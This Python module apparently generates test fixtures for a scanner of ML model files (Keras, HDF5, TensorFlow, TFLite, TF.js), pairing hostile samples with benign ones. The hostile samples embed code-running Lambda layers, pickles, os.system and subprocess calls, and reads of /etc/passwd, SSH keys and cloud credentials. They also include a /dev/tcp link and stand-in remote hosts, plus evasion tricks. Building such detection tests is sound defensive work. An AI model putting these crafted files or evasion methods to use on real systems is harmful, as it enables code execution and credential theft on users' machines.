"""Attacks on the readers of Keras, HDF5, TensorFlow, ONNX and kin, and torch.export; written without
a look at those readers, after public advisories and what scanners are tried with.

bad() and good() yield (name, bytes or {path: bytes}, rules, why); see run.py. The writers of the
formats are those of keras.py, hdf5.py, tensorflow.py and onnx.py here.
"""
import base64
import gzip
import importlib.util
import io
import json
import pathlib
import pickle
import struct
import tarfile
import zipfile
import zlib

HERE = pathlib.Path(__file__).resolve().parent
FIXTURES = HERE.parent / "fixtures"


def writers(name):
    """The module beside this one; not the library of that name."""
    spec = importlib.util.spec_from_file_location("models_" + name, HERE / (name + ".py"))
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


K, H, T, O = (writers(name) for name in ("keras", "hdf5", "tensorflow", "onnx"))
RAN = ["PKL001", "PKL002", "PKL003", "PKL004"]
BROKEN = ["ENG001", "ENG002"]
LAMBDA = ["MDL110", "MDL111", "MDL113"]
PICKLE, PICKLE0 = H.PICKLE, H.PICKLE0
CODE = K.text64(K.code())


def zipped(*members, **how):
    """(name, data) in order; a name may come twice."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", **how) as z:
        for name, data in members:
            z.writestr(zipfile.ZipInfo(name, (1980, 1, 1, 0, 0, 0)), data)
    return out.getvalue()


def of_json(value):
    return json.dumps(value).encode()


def tarred(members):
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as tar:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return out.getvalue()


META = ("metadata.json", of_json(K.METADATA))
CLEAN = K.sequential(K.dense())
EVIL = K.sequential(K.lam(CODE))


# ---- Keras ----

def bad_keras():
    yield ("two_configs.keras", zipped(META, ("config.json", of_json(EVIL)), ("config.json", of_json(CLEAN))),
           LAMBDA + ["ZIP004", "ZIP005"], "two members config.json, the first is hostile")
    yield ("two_configs_last.keras", zipped(META, ("config.json", of_json(CLEAN)), ("config.json", of_json(EVIL))),
           LAMBDA, "two members config.json, the second is hostile")
    whole = zipped(META, ("config.json", of_json(EVIL)))
    yield ("local_name.keras", whole.replace(b"config.json", b"readme.json", 1), LAMBDA, "local and central header differ in the name")
    yield ("behind_junk.keras", b"GIF89a" + bytes(200) + whole, LAMBDA, "a zip behind other bytes")
    yield ("as_tar.keras", tarred({"config.json": of_json(EVIL), "metadata.json": b"{}"}), LAMBDA, "a tar named .keras")
    yield ("as_gz.keras", gzip.compress(of_json(EVIL)), LAMBDA, "compressed JSON named .keras")
    yield ("h5_as.keras", H.File().finish(H.string(b"model_config", H.lambda_config())), LAMBDA, "CVE-2025-9905: HDF5 by the name .keras")
    yield ("keras_as.h5", whole, LAMBDA, "an archive by the name .h5")
    yield ("keras_as.txt", whole, LAMBDA, "an archive by the name .txt")
    yield ("in_folder.keras", zipped(("model/metadata.json", META[1]), ("model/config.json", of_json(EVIL))), LAMBDA, "one folder deeper, as repacked")
    yield ("case.keras", zipped(META, ("Config.JSON", of_json(EVIL))), LAMBDA, "a name that some systems take for config.json")
    yield ("zip_in_zip.zip", zipped(("m.keras", whole)), LAMBDA, "an archive in an archive")
    yield ("assets.keras", zipped(META, ("config.json", of_json(CLEAN)), ("assets/lambda.json", of_json(EVIL))), LAMBDA, "a second configuration among the assets")
    yield ("weights_lambda.keras", zipped(META, ("config.json", of_json(CLEAN)), ("model.weights.h5", H.File().finish(
        H.string(b"model_config", H.lambda_config())))), LAMBDA, "in the weights")
    yield ("weights_link.keras", zipped(META, ("config.json", of_json(CLEAN)), ("model.weights.h5", H.external_storage(b"/etc/passwd"))),
           "MDL104", "CVE-2026-1669 in the archive")
    npy = b"\x93NUMPY\1\0v\0" + b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }".ljust(117) + b"\n" + PICKLE
    yield ("weights_npz.keras", zipped(META, ("config.json", of_json(CLEAN)), ("model.weights.npz", zipped(("__root__.npy", npy)))), RAN, "weights as npz with objects")
    for name, what in (("get_file_src", K.function("keras.src.utils.file_utils", "get_file")), ("get_file_tf", K.function("tensorflow.keras.utils", "get_file")),
                       ("get_file_tfk", K.function("tf_keras.src.utils.data_utils", "get_file")), ("extract", K.function("keras.src.utils.file_utils", "extract_archive")),
                       ("copy", K.function("keras.src.utils.file_utils", "copy")),
                       ("unsafe_src", K.function("keras.src.saving.serialization_lib", "enable_unsafe_deserialization")),
                       ("clone", K.function("keras.src.saving.saving_lib", "load_model")), ("execwrap", K.function("keras.src.utils.python_utils", "func_load")),
                       ("legacy_load", K.function("keras.src.legacy.saving.legacy_h5_format", "load_model_from_hdf5")),
                       ("plot", K.function("keras.utils", "plot_model")), ("code_str", K.function("keras.src.utils.python_utils", "pythonify_logs"))):
        yield ("gadget_%s.keras" % name, K.archive(K.sequential(K.obj("Lambda", {"function": what, "arguments": {"origin": "http://192.0.2.1/x"}}))),
               ["MDL116", "MDL101", "MDL100", "MDL106"], "a function of Keras that reaches out")
    yield ("numpy_load.keras", K.archive(K.sequential(K.obj("Lambda", {"function": K.function("numpy", "load"), "arguments": {"allow_pickle": True}}))), ["MDL100"], "a library's loader")
    yield ("shards_leave.json", of_json({"metadata": {"total_size": 1}, "weight_map": {"/layers/a/vars": ["ok.weights.h5", "../../../etc/passwd"]}}), ["MDL104"], "a shard in a list, elsewhere")
    yield ("torch_nested.keras", K.archive(K.sequential(K.deep(K.obj("TorchModuleWrapper", {"module": {"class_name": "__bytes__", "config": {
        "value": base64.b64encode(PICKLE).decode()}}}, "keras.src.utils.torch_utils"), 3))), ["MDL115", *RAN], "CVE-2025-49655, wrapped")
    yield ("torch_layers.keras", K.archive(K.sequential(K.obj("TorchModuleWrapper", {"module": base64.b64encode(PICKLE).decode()}, "keras.layers", "TorchModuleWrapper"))), ["MDL115"], "by its public name")
    yield ("pickled_array.keras", K.archive(K.sequential(K.dense(x={"class_name": "__bytes__", "config": {"value": base64.b64encode(PICKLE).decode()}}))), RAN, "a pickle as bytes of a configuration")
    yield ("tfsm_relative.keras", K.archive(K.sequential(K.obj("TFSMLayer", {"filepath": "backdoor", "call_endpoint": "serve"}))), ["MDL120", "MDL114"], "CVE-2026-1462: another model by a plain name")
    yield ("tfsm_src.keras", K.archive(K.sequential(K.obj("TFSMLayer", {"filepath": "\\\\192.0.2.1\\share\\m"}, "keras.src.export.tfsm_layer"))), ["MDL104", "MDL105", "MDL120"], "on another machine")
    for layer in ("IntegerLookup", "StringLookup", "TextVectorization", "IndexLookup"):
        yield ("vocabulary_%s.keras" % layer, K.archive(K.sequential(K.deep(K.obj(layer, {"vocabulary": "/proc/self/environ"}, "keras.src.layers.preprocessing.string_lookup"), 2))), ["MDL104"], "CVE-2025-12058")
    yield ("vocabulary_home.h5", H.File().finish(H.string(b"model_config", of_json(K.legacy("Sequential", [K.legacy("StringLookup", {"vocabulary": "~/.aws/credentials"})])))), ["MDL104"], "in HDF5")
    yield ("vocabulary_file_url.keras", K.archive(K.sequential(K.obj("StringLookup", {"vocabulary": "file:///etc/passwd"}))), ["MDL104", "MDL106"], "as an address")
    yield ("idf.keras", K.archive(K.sequential(K.obj("TextVectorization", {"vocabulary": ["a"], "idf_weights": "../../x.npy"}))), ["MDL104"], "weights of words from a file")
    for place, config in (("loss", {"loss": K.function("os", "system")}), ("metrics", {"metrics": [[K.function("builtins", "exec")]]}),
                          ("optimizer", {"optimizer": K.obj("Popen", {"args": ["id"]}, "subprocess")}),
                          ("schedule", {"optimizer": K.obj("Adam", {"learning_rate": K.obj("system", {"command": "id"}, "os")}, "keras.optimizers")}),
                          ("weighted", {"weighted_metrics": {"a": K.obj("run", {}, "subprocess")}})):
        yield ("compile_%s.keras" % place, K.archive(K.sequential(K.dense(), compile_config=config)), ["MDL100"], "code as " + place)
    yield ("compile_custom.keras", K.archive(K.sequential(K.dense(), compile_config={"loss": K.obj("MyLoss", {}, "evil.losses", "evil>MyLoss"), "optimizer": "adam"})), ["MDL101", "MDL114"], "a loss of a package")
    yield ("compile_lambda.keras", K.archive(K.sequential(K.dense(), compile_config={"metrics": [{"class_name": "__lambda__", "config": {"code": CODE, "defaults": None, "closure": None}}]})), LAMBDA, "a metric is a lambda")
    yield ("build_config.keras", K.archive(K.sequential(K.dense(), build_config={"input_shape": K.obj("system", {"command": "id"}, "os")})), ["MDL100"], "in build_config")
    yield ("dtype.keras", K.archive(K.sequential(K.dense(dtype=K.obj("eval", {"x": "1"}, "builtins")))), ["MDL100"], "as a type of numbers")
    yield ("initializer.keras", K.archive(K.sequential(K.dense(kernel_initializer=K.obj("check_output", {"args": "id"}, "subprocess", "GlorotUniform")))), ["MDL100"], "an initializer, registered as a harmless one")
    yield ("inbound.keras", K.archive(K.obj("Functional", {"layers": [K.obj("Dense", {"units": 1}, inbound_nodes=[{"args": [K.function("os", "popen")], "kwargs": {}}])]}, "keras")), ["MDL100"], "among the arguments of a call")
    yield ("typespec_deep.keras", K.archive(K.sequential(K.dense(a=[{"b": ({"class_name": "__typespec__", "spec_name": "Popen", "module": "subprocess", "registered_name": None, "config": [["id"]]},)}]))), ["MDL100"], "a type's specification")
    yield ("registered.keras", K.archive(K.sequential(K.obj("Dense", {"units": 1}, "keras.layers", "evil>Dense"))), ["MDL114"], "registered under another package's name")
    yield ("no_module.keras", K.archive(K.sequential({"class_name": "os.system", "config": {"command": "id"}})), ["MDL100", "MDL101", "MDL114"], "a dotted class name")
    yield ("path_module.keras", K.archive(K.sequential(K.obj("Dense", {}, "keras.layers/../../os"))), ["MDL100", "MDL101", "MDL105", "MDL104"], "a module that is a path")
    yield ("module_space.keras", K.archive(K.sequential(K.obj("system", {}, " os "))), ["MDL100", "MDL101"], "a module with blanks")
    yield ("reexport.keras", K.archive(K.sequential(K.obj("system", {"command": "id"}, "keras.src.utils.file_utils.os"))), ["MDL100", "MDL101", "MDL116"], "os, through a module of Keras that imports it")
    yield ("reexport_numpy.keras", K.archive(K.sequential(K.dense(activation=K.function("numpy.testing._private.utils", "runstring")))), ["MDL100", "MDL101"], "a gadget of NumPy")
    yield ("lambda_def.h5", H.File().finish(H.string(b"model_config", of_json(K.legacy("Sequential", [K.legacy("Lambda", {"function": "evaluate", "function_type": "function", "module": "evil_module", "output_shape_type": "lambda",
           "output_shape": [CODE, None, None]})])))), LAMBDA, "the shape of a named function's output is code")
    yield ("mask.json", of_json(K.legacy("Sequential", [K.legacy("Lambda", {"function": "relu", "function_type": "function", "mask": [CODE, None, None], "mask_type": "lambda"})])), LAMBDA, "the mask is code")
    yield ("merge.json", of_json(K.legacy("Model", {"layers": [K.legacy("Merge", {"mode": CODE, "mode_type": "lambda"})]})), LAMBDA + ["MDL114"], "Keras 1: a merge with code")
    yield ("lambda_by_name.keras", K.archive(K.sequential(K.obj("Lambda", {"function": K.function("helpers.ops", "normalize", "normalize")}))), ["MDL101", "MDL114"], "a function of a module beside the model")
    yield ("crlf_lambda.keras", K.archive(K.sequential(K.lam(CODE.replace("\n", "\r\n \t")))), LAMBDA, "base64 with blanks")
    yield ("lambda_urlsafe.keras", K.archive(K.sequential(K.lam(base64.urlsafe_b64encode(K.code()).decode()))), LAMBDA, "base64 of the other kind")
    yield ("numpy_function.json", of_json(K.legacy("Functional", {"layers": [K.legacy("TFOpLambda", {"function": "numpy_function"})]})), ["MDL118"], "calls Python")
    yield ("raw_ops.json", of_json(K.legacy("Functional", {"layers": [K.legacy("TFOpLambda", {"function": "raw_ops.ReadFile"})]})), ["MDL118"], "an operator of graphs")
    yield ("class_method.json", of_json(K.legacy("Functional", {"layers": [K.legacy("ClassMethod", {"cls_symbol": "io.gfile.GFile", "fn_name": "open"})]})), ["MDL100", "MDL101", "MDL117", "MDL118", "MDL114"], "a method of a class")
    yield ("yaml_object.yaml", b"class_name: Sequential\nconfig: !!python/object/apply:os.system ['id']\nkeras_version: 2.2.4\n", ["MDL071"], "CVE-2021-37678")
    yield ("hub_task.json", of_json(K.obj("BertTextClassifier", {"backbone": K.obj("system", {"command": "id"}, "os", "keras_hub>BertBackbone")}, "keras_hub.src.models.bert.bert_text_classifier", "keras_hub>BertTextClassifier")), ["MDL100"], "a preset of KerasHub")
    yield ("hub_preset", {"config.json": of_json(K.obj("BertBackbone", {"x": 1}, "evil_hub.models", "keras_hub>BertBackbone")), "metadata.json": of_json({"keras_version": "3.5.0", "keras_hub_version": "0.17"})}, ["MDL101", "MDL114"], "a preset of another package")
    yield ("bom_twice.keras", K.archive(None, raw=b"\xef\xbb\xbf\xef\xbb\xbf" + of_json(EVIL)), LAMBDA + BROKEN, "two marks of order")
    yield ("nan.keras", K.archive(None, raw=of_json(EVIL)[:-1] + b', "x": NaN, "y": -Infinity}'), LAMBDA, "what only Python's JSON reads")
    yield ("trailing.keras", K.archive(None, raw=of_json(CLEAN) + b"\n" + of_json(EVIL)), LAMBDA + BROKEN, "two documents")
    yield ("surrogate.keras", K.archive(None, raw=of_json(EVIL).replace(b'"Lambda"', b'"\\u004C\\u0061\\u006d\\u0062\\u0064\\u0061"')), LAMBDA, "every letter escaped")
    yield ("duplicate_config.keras", K.archive(None, raw=of_json(CLEAN).replace(b'"units": 2', b'"units": 2, "activation": {"module": "os", "class_name": "function", "config": "system", "registered_name": "x"}')), ["MDL100", "MDL119"], "the first of two activations")
    yield ("pyc.h5", b"\xcb\r\r\n" + bytes(12) + K.code(), ["MDL062", "MDL063", *LAMBDA], "compiled Python by the name of weights")


def good_keras():
    yield "words.keras", K.archive(K.sequential(K.obj("Dense", {"name": "Lambda"}), K.dense(name="__lambda__"), K.dense(name="TorchModuleWrapper"))), [], "layers by bad names"
    yield ("hub", {"config.json": of_json(K.obj("GPT2Backbone", {"vocabulary_size": 50257, "num_layers": 12, "trainable": True}, "keras_hub.src.models.gpt2.gpt2_backbone", "keras_hub>GPT2Backbone")),
           "metadata.json": of_json({"keras_version": "3.5.0", "keras_hub_version": "0.17", "parameter_count": 1, "date_saved": "x", "tasks": ["CausalLM"]}),
           "tokenizer.json": of_json(K.obj("GPT2Tokenizer", {"name": "t", "dtype": "int32", "config_file": "tokenizer.json"}, "keras_hub.src.models.gpt2.gpt2_tokenizer", "keras_hub>GPT2Tokenizer")),
           "task.json": of_json(K.obj("GPT2CausalLM", {"backbone": K.obj("GPT2Backbone", {}, "keras_hub.src.models.gpt2.gpt2_backbone", "keras_hub>GPT2Backbone")}, "keras_hub.src.models.gpt2.gpt2_causal_lm", "keras_hub>GPT2CausalLM"))},
           [], "a preset of KerasHub")
    yield "nlp.json", of_json(K.obj("BertBackbone", {}, "keras_nlp.src.models.bert.bert_backbone", "keras_nlp>BertBackbone")), [], "KerasNLP"
    yield "cv.json", of_json(K.obj("ResNetBackbone", {}, "keras_cv.src.models.backbones.resnet_v1", "keras_cv.models>ResNetBackbone")), [], "KerasCV"
    yield ("compile.keras", K.archive(K.sequential(K.dense(), compile_config={"optimizer": K.obj("AdamW", {"learning_rate": K.obj("CosineDecay", {"initial_learning_rate": 0.1}, "keras.optimizers.schedules")}, "keras.optimizers"),
           "loss": {"a": "mse", "b": K.obj("Huber", {"delta": 1.0}, "keras.losses")}, "metrics": [["accuracy"], [K.obj("AUC", {}, "keras.metrics")]], "run_eagerly": False, "jit_compile": "auto"})), [], "losses, metrics and a schedule of Keras")
    yield "assets.keras", zipped(META, ("config.json", of_json(K.sequential(K.obj("StringLookup", {"vocabulary": None, "name": "s"})))), ("assets/_layer_checkpoint_dependencies/s/vocabulary.txt", b"os.system\n/etc/passwd\neval\n")), [], "a vocabulary among the assets"
    yield "locale.keras", K.archive(K.sequential(K.dense(name="\u5c42 1 \u00e9"))), [], "names in Chinese"
    yield "weights.h5", H.File().finish(H.string(b"layer_names0", b"a"), H.string(b"layer_names1", b"b"), H.string(b"backend", b"tensorflow"), H.string(b"keras_version", b"2.4.0")), [], "names over two attributes"
    shard = H.stored(bytes(16), H.FLOAT, H.shape(4))
    yield ("shards", {"m.weights.json": of_json({"metadata": {"total_size": 32.0}, "weight_map": {"/layers/a/vars": ["m_00000.weights.h5"], "/layers/b/vars": ["m_00000.weights.h5", "m_00001.weights.h5"], "/optimizer/vars": "m_00001.weights.h5"}}),
           "m_00000.weights.h5": shard, "m_00001.weights.h5": shard}, [], "weights over two files, as Keras 3.11 saves them")
    yield "deflated.keras", zipped(META, ("config.json", of_json(CLEAN)), compression=zipfile.ZIP_DEFLATED), [], "deflated"
    yield "folders.keras", zipped(META, ("config.json", of_json(CLEAN)), ("assets/", b"")), [], "an entry that is a folder"
    yield "relu6.json", of_json(K.legacy("Model", {"layers": [K.legacy("Activation", {"activation": "relu6"}), K.legacy("DepthwiseConv2D"), K.legacy("ReLU", {"max_value": 6.0})]})), [], "MobileNet of old"
    yield "applied.json", of_json(K.legacy("Functional", {"layers": [K.legacy("TFOpLambda", {"function": f}) for f in ("math.reduce_mean", "nn.silu", "concat", "cast", "expand_dims", "image.resize", "compat.v1.transpose", "linalg.matmul", "math.sigmoid", "one_hot", "strings.lower")]})), [], "functions of TensorFlow that compute"
    yield "quantized.keras", K.archive(K.sequential(K.dense(dtype=K.obj("QuantizedDTypePolicy", {"mode": "int8", "source_name": "float32"}, "keras"), lora_rank=4))), [], "quantised, with LoRA"
    yield "metadata_more.keras", K.archive(CLEAN, metadata={**K.METADATA, "note": "trained with os.system('train.sh') at /home/me"}), [], "a note"
    yield "augment.keras", K.archive(K.sequential(*[K.obj(n, {"name": n.lower()}) for n in ("RandomFlip", "RandomRotation", "RandomErasing", "MixUp", "CutMix", "AugMix", "Pipeline", "Solarization", "MelSpectrogram", "STFTSpectrogram", "Normalization", "Hashing", "Discretization", "CategoryEncoding")])), [], "layers that prepare data"


# ---- HDF5 ----

def bad_hdf5():
    yield "external_unc.h5", H.File().finish(H.external(b"w", b"\\\\192.0.2.1\\s\\w.h5")), ["MDL104", "MDL105"], "another machine"
    yield "external_url.h5", H.File().finish(H.external(b"w", b"https://192.0.2.1/w.h5")), ["MDL104", "MDL106"], "an address"
    yield "external_home.h5", H.File().finish(H.external(b"w", b"~/.ssh/id_rsa")), ["MDL104"], "at home"
    yield "external_dev.h5", H.File().finish(H.external(b"w", b"/dev/tcp/192.0.2.1/80")), ["MDL104"], "a device"
    yield "external_drive.h5", H.File().finish(H.external(b"w", b"C:secret.h5")), ["MDL104", "MDL105"], "a drive"
    yield "virtual_dotdot.h5", H.virtual(b"a/b/../../../x.h5"), ["MDL104"], "upwards after folders"
    yield "virtual_pattern.h5", H.virtual(b"/proc/%b/environ"), ["MDL104"], "a name with a number"
    yield "virtual_many.h5", H.virtual(*[b"."] * 500, b"/etc/shadow"), ["MDL104"], "the five hundredth source"
    yield "storage_parent.h5", H.external_storage(b"../w.bin"), ["MDL104"], "raw data of the folder above"
    yield "storage_env.h5", H.external_storage(b"$HOME/w.bin"), ["MDL104", "MDL105"], "a variable"
    f = H.File()
    a = f.add(H.header(H.external(b"x", b"/etc/passwd")))
    for _ in range(50):
        a = f.add(H.header(H.hard(b"g", a)))
    yield "external_deep.h5", f.finish(H.hard(b"g", a)), ["MDL104"], "fifty groups deep"
    yield "user_block_zip.h5", H.File().finish(H.string(b"a", b"b"), before=H.zip_of_pickle().ljust(512, b"\0")), RAN + ["ENG014"], "an archive in the user block"
    yield "user_block_lambda.h5", H.File().finish(H.string(b"a", b"b"), before=of_json(EVIL).ljust(1024, b"\0")), LAMBDA + ["ENG013", "ENG014", "ENG004"], "a configuration in the user block"
    yield "two_files.h5", H.File().finish(H.string(b"a", b"b")) + H.File().finish(H.string(b"model_config", H.lambda_config())), LAMBDA + ["ENG013"], "a second file behind the first"
    yield "gz_pickle.h5", H.stored(gzip.compress(PICKLE), H.BYTE, H.shape(len(gzip.compress(PICKLE)))), RAN, "a compressed pickle as bytes"
    yield "pickle_in_name.h5", H.File().finish(H.string(PICKLE0[:60], b"x"), H.string(b"note", b"\x80\x02" + PICKLE0)), RAN, "protocol 0 behind a mark of protocol 2"
    yield "config_and_weights.h5", H.File().finish(H.string(b"model_config", H.DENSE), H.string(b"training_config", of_json({"loss": "mse", "metrics": [K.function("os", "system")]}))), ["MDL100"], "in training_config"
    yield "eof_lies.h5", H.File().finish(H.string(b"a", b"b")).replace(b"\xff" * 8, b"\0" * 8, 1), BROKEN, "an address that is not empty"
    f = H.File()
    where = len(f.data)
    yield "soft_cycle_kind.h5", f.finish(H.hard(b"a", 8)), BROKEN, "a link into the superblock"
    yield "bomb_gzip.h5", H.filtered(bytes(200 << 20), 1), ["MDL143", "MDL142", "ENG005", *BROKEN], "two hundred megabytes of nothing"


def good_hdf5():
    yield "link_words.h5", H.File().finish(H.soft(b"s", b"../../../etc/passwd"), H.string(b"url", b"https://example.com/model.h5")), [], "paths within the file"
    yield "class_name.h5", H.File().finish(H.string(b"class_name", b"Lambda"), H.string(b"module", b"os")), [], "attributes that are words"
    yield "magic.h5", H.stored(b"\x80\x04" + bytes(range(60)), H.BYTE, H.shape(62)), [], "bytes that start as a pickle does"
    yield "jpegs.h5", H.stored(b"\xff\xd8\xff\xe0" + bytes((i * 37) % 251 for i in range(900)), H.opaque(904), H.SCALAR), [], "a picture"
    yield "fortran.h5", H.stored(struct.pack("<10d", *range(10)), bytes([0x11, 0x20, 0x3f, 0]) + struct.pack("<IHHBBBBI", 8, 0, 64, 52, 11, 0, 52, 1023), H.shape(10)), [], "doubles"


# ---- TensorFlow ----

def n(op, *inputs, **attrs):
    return T.node("n", op, inputs, {k: T.text_value(v) if isinstance(v, str) else v for k, v in attrs.items()})


def bad_tensorflow():
    for op, rules, attrs in (
            ("SqlDataset", ["MDL161"], {}), ("LMDBDataset", ["MDL162"], {}), ("SnapshotDatasetV2", ["MDL160", "MDL162"], {}),
            ("DatasetToTFRecord", ["MDL160"], {}), ("DebugIdentityV3", ["MDL160"], {"debug_urls": T.field(1, T.field(2, "file:///tmp/x"))}),
            ("CompileAndWriteEngine", ["MDL160", "MDL165"], {}), ("TRTEngineOp", ["MDL167", "MDL165"], {"serialized_segment": b"\1\2"}), ("MlirPassthroughOp", ["MDL167", "MDL165"], {"mlir_module": "module {}"}),
            ("RemoteFusedGraphExecute", ["MDL167", "MDL165"], {}), ("FileSystemSetConfiguration", ["MDL167"], {}),
            ("GcsConfigureCredentials", ["MDL164", "MDL165"], {}), ("BigQueryReader", ["MDL164", "MDL165"], {}), ("KafkaDataset", ["MDL164"], {}), ("RpcServer", ["MDL164"], {}),
            ("GeneratorDataset", ["MDL162", "MDL163"], {"next_func": T.func_value("PyFunc")}), ("FixedLengthRecordReaderV2", ["MDL162"], {}),
            ("ListDataset", ["MDL161"], {"f": T.func_value("ReadFile")}), ("readfile", ["MDL165"], {}), ("ReadFile ", ["MDL165", "MDL161"], {}), ("Examples>Evil", ["MDL165"], {}), ("ExampleLoadLibrary", ["MDL165"], {})):
        yield op.replace(">", "-").strip() + "_%d.pb" % len(op), T.graph(*T.PLAIN, n(op, "x", **attrs)), rules, "a node " + op
    both = T.function("f", n("WriteFile"))
    yield "unknown_tags", {"saved_model.pb": T.saved(T.field(1, T.field(4, "gpu_debug") + T.field(4, "\0")) + T.field(2, T.graph(*T.PLAIN, lib=T.library(both))))}, ["MDL160"], "tags that nobody asks for"
    yield "text_beside", {"saved_model.pb": T.model(), "saved_model.pbtxt": b'saved_model_schema_version: 1 meta_graphs { graph_def { node { name: "w" op: "WriteFile" } } }'}, ["MDL160"], "the text form beside the other"
    yield "code_beside", {"saved_model.pb": T.model(), "assets.extra/setup.py": b"import os\nos.system('id')\n"}, [], "Python among the extra assets"
    yield "library_beside", {"saved_model.pb": T.model(), "assets.extra/custom_ops.so": O.ELF}, ["MDL061", "MDL302"], "a library among the extra assets"
    yield "pickle_beside", {"saved_model.pb": T.model(), "assets/vocab.txt": PICKLE}, RAN, "a pickle as vocabulary"
    yield "pickle_shard", {"saved_model.pb": T.model(), "variables/variables.data-00000-of-00001": PICKLE}, RAN, "a pickle as variables"
    yield "chunked.cpb", b"\x83\xaf\x70\xd1\x0d\x88\x4a\x3f" + bytes(80), [], "a model in chunks is not read"
    yield "keras_metadata", {"saved_model.pb": T.model(), "keras_metadata.pb": T.field(1, T.field(2, 1) + T.field(3, "root.layer") + T.field(4, "_tf_keras_layer") + T.field(5, json.dumps({"class_name": "Lambda", "config": K.old_lambda(CODE)["config"]})))}, LAMBDA, "a Lambda layer in the metadata of Keras"
    yield ("asset_drive.pb", T.saved(T.meta(T.graph(*T.PLAIN), T.asset("p:0", "..\\..\\windows\\x"))), ["MDL104", "MDL105"], "an asset upwards, the other slash")
    yield ("while.pb", T.graph(*T.PLAIN, T.node("w", "StatelessWhile", ["x"], {"cond": T.func_value("c"), "body": T.func_value("b")}), lib=T.library(T.function("c", *T.PLAIN), T.function("b", T.node("k", "If", ["x"], {"then_branch": T.func_value("d")})), T.function("d", n("EagerPyFunc")))), ["MDL163"], "in a branch in a body")
    yield ("function_attr.pb", T.graph(*T.PLAIN, lib=T.library(T.function("f", *T.PLAIN) + T.entry(5, "api_implements", T.text_value(PICKLE)))), RAN, "a pickle in an attribute of a function")
    yield ("shadow.pb", T.graph(*T.PLAIN, n("Relu"), lib=T.library(T.function("Relu", n("WriteFile")))), ["MDL160"], "a function by the name of an operator")
    yield ("strip.pb", T.saved(T.field(1, T.field(2, T.field(1, T.field(1, "WriteFile")))) + T.field(2, T.graph(*T.PLAIN, n("WriteFile")))), ["MDL160"], "the list of operators carries it as well")
    yield ("print.pb", T.graph(*T.PLAIN, n("PrintV2", "x", output_stream="file://../x")), ["MDL160"], "prints into a file")
    yield ("summary.pb", T.graph(*T.PLAIN, T.const("d", "/etc/cron.d"), T.node("s", "SummaryWriter"), T.node("c", "CreateSummaryFileWriter", ["s", "d"])), ["MDL160", "MDL104"], "a log in a system's folder")
    for name, path in (("etc", "/etc/passwd"), ("proc", "/proc/self/environ"), ("dev", "/dev/zero"), ("ssh", "/home/u/.ssh/id_rsa"), ("aws", "/root/.aws/credentials"), ("tilde", "~/.netrc"), ("dots", "../../../../etc/shadow"),
                       ("var", "/var/run/secrets/kubernetes.io/serviceaccount/token"), ("slashes", "//etc///passwd"), ("dot", "/./etc/passwd"), ("back", "/home/u/../../etc/passwd"), ("users", "/Users/u/.aws/config"), ("windows", "C:\\Windows\\win.ini"), ("share", "\\\\192.0.2.1\\s\\v.txt"), ("url", "http://192.0.2.1/v.txt"), ("file", "file:///etc/passwd"), ("sys", "/sys/class/dmi/id/product_uuid"), ("dump", "/root/.bash_history")):
        yield ("table_%s.pb" % name, T.graph(*T.PLAIN, T.node("t", "HashTableV2"), T.const("p", path), T.node("i", "InitializeTableFromTextFileV2", ["t", "p"])), ["MDL104", "MDL105", "MDL106"], "a table from " + path)
    yield ("save_home.pb", T.graph(*T.PLAIN, *T.SAVER, T.const("p", "/home/u/vocab.txt"), T.node("s", "SaveV2", ["p", "names", "slices", "read"])), ["MDL104"], "writes where a vocabulary might be")
    yield ("restore_ssh.pb", T.graph(*T.PLAIN, T.const("p", "/root/.ssh/id_rsa"), T.const("t", "w"), T.const("s", ""), T.node("r", "RestoreV2", ["p", "t", "s"])), ["MDL104"], "a checkpoint that is none")
    yield ("table_odd.pb", T.graph(*T.PLAIN, T.node("t", "HashTableV2"), T.const("p", "/srv/app/settings.yaml"), T.node("i", "InitializeTableFromTextFileV2", ["t", "p"])), ["MDL179"], "a table from what is no list of words")
    yield ("read_home.pb", T.graph(*T.PLAIN, T.const("p", "/home/u/vocab.txt"), T.node("s", "ReadFile", ["p"])), ["MDL161"], "reads what might be a vocabulary")
    for i, text in enumerate((b'node{name:"a"op:"R""ead""File"}', b"node{op:'\\122eadFile' name:'a'}", b'node { name: "a" # }\n op: "ReadFile" }', b'node { [type.googleapis.com/x] { a: 1 } op: "ReadFile" }',
                              b'library { function { node_def { op: "\\u0052eadFile" } } } versions { producer: 27 }', b'versions { producer: 27 }\nnode { op: "ReadFile" }', b"\xef\xbb\xbfnode { name: 'x' op: 'ReadFile' }")):
        yield "text_%d.pbtxt" % i, text, ["MDL161", "MDL165", "MDL070", *BROKEN], "text form, written oddly"
    yield "checkpoint", b'all_model_checkpoint_paths: "a"\nmodel_checkpoint_path: "/root/.ssh/x"\n', ["MDL104"], "the last checkpoint, elsewhere"
    yield "call_custom.tflite", T.lite([T.builtin(0), T.custom("../../evil.so")], [T.operator(), T.operator(1)]), ["MDL165", "MDL192"], "an operator named as a library"
    yield "flex_two.tflite", T.lite([T.custom("FlexRelu")], [T.operator(options=T.flex_options(b"Relu", T.node("r", "Relu"))), T.operator(options=T.flex_options(b"Relu", T.node("r", "ReadFile")))]), ["MDL161"], "the second use of an operator"
    yield "flex_function.tflite", T.flex("PartitionedCall", T.node("p", "PartitionedCall", [], {"f": T.func_value("EagerPyFunc")})), ["MDL163"], "a function's name through Flex"
    yield "tail.tflite", T.lite() + H.zip_of_pickle(), RAN, "metadata's archive behind the model holds a pickle"
    yield "offset.tflite", struct.pack("<I", 1 << 31) + T.lite()[4:], BROKEN + ["ENG004"], "the root is beyond the file"
    yield "program.tflite", O.ELF, ["MDL302", "MDL061"], "a program by the name of a model"
    yield "task.task", zipped(("model.tflite", T.lite([T.custom("Evil")])), ("hand.tflite", T.flex("WriteFile", T.node("w", "WriteFile")))), ["MDL160"], "a bundle of MediaPipe"
    yield "model.json", T.tfjs({"name": "w", "op": "Placeholder", "attr": {"x": {"s": base64.b64encode(PICKLE).decode()}}}), RAN, "TF.js: a pickle in an attribute"
    yield "tfjs", {"model.json": T.tfjs(paths=["a/../../w.bin"])}, ["MDL104"], "TF.js: weights upwards"
